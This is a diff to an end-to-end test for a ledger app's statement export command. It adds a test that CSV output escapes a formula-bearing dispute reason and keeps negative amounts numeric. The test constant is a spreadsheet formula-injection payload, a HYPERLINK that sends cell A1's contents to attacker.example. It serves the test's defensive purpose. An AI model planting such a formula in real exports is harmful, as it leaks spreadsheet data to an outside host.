@@ -10,6 +10,7 @@ import { startLedger } from '../support/ledger-app.js';
 
 const cliPath = join(import.meta.dirname, '../../dist/apps/ledger/src/cli.js');
 const secret = 'e2e-secret-that-is-at-least-32-characters';
+const formulaReason = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
 
 /**
  * `npm run ledger -- export statements --period <p> [--csv]`, compiled, as npm runs it, over a ledger
@@ -35,7 +36,16 @@ describe('the export command line', () => {
     at('2026-04-02');
     await ledger.http.post('/periods/2026-Q1/close').set(as('finance')).expect(200);
     // Two of the three partners get their statement; the export lists exactly those.
-    for (const partnerId of ['south', 'north']) await ledger.http.post('/statements').set(as('finance')).send({ partnerId, period: '2026-Q1' }).expect(201);
+    let position = '0';
+    for (const partnerId of ['south', 'north']) position = (await ledger.http.post('/statements').set(as('finance')).send({ partnerId, period: '2026-Q1' }).expect(201)).body.position as string;
+    // North disputes its line with a formula for a reason; the adjustment carrying it goes on north's Q2 statement.
+    const north = await ledger.http.get(`/statements/north-2026-Q1?after=${position}`).set(as('finance')).expect(200);
+    const lineId = (north.body as { lines: Array<{ lineId: string }> }).lines[0]!.lineId;
+    await ledger.http.post(`/statements/north-2026-Q1/lines/${lineId}/dispute`).set(ledger.auth('partner', 'north-user', 'north')).send({ reason: formulaReason }).expect(200);
+    await ledger.http.post(`/statements/north-2026-Q1/lines/${lineId}/resolve`).set(as('finance')).send({ outcome: 'adjusted', adjustment: '-25.00' }).expect(200);
+    at('2026-07-02');
+    await ledger.http.post('/periods/2026-Q2/close').set(as('finance')).expect(200);
+    await ledger.http.post('/statements').set(as('finance')).send({ partnerId: 'north', period: '2026-Q2' }).expect(201);
     await ledger.app.close();
     // As if the service had stopped before projecting the statements: the command catches up on its own.
     const db = openDatabase(join(dataDir, 'read-models.sqlite'));
@@ -54,7 +64,7 @@ describe('the export command line', () => {
       ['south-2026-Q1', 'issued', '150.00'],
     ]);
     for (const statement of statements) expect(statement.lines.reduce((sum, line) => sum.plus(line.amount), new Decimal(0)).toFixed(2)).toBe(statement.total);
-    expect(JSON.parse(cli('export', 'statements', '--period', '2026-Q2').stdout)).toEqual([]);
+    expect(JSON.parse(cli('export', 'statements', '--period', '2026-Q3').stdout)).toEqual([]);
   });
 
   it('prints CSV with --csv: one row per line with its provenance', () => {
@@ -67,6 +77,15 @@ describe('the export command line', () => {
     ]);
     expect(rows[0]!['source_event_id']).toMatch(/^[0-9a-f-]{36}$/);
     expect(rows[0]!['source_type']).toBe('DealWon');
+  });
+
+  it('escapes a cell a spreadsheet would run as a formula, and keeps a negative amount numeric', () => {
+    const result = cli('export', 'statements', '--period', '2026-Q2', '--csv');
+    expect(result.status).toBe(0);
+    const rows = parseCsv(result.stdout);
+    expect(rows.map((row) => [row['statement_id'], row['kind'], row['amount'], row['dispute_reason']])).toEqual([
+      ['north-2026-Q2', 'adjustment', '-25.00', `'${formulaReason}`],
+    ]);
   });
 
   it('refuses a malformed or missing period, exiting 1 with the reason', () => {
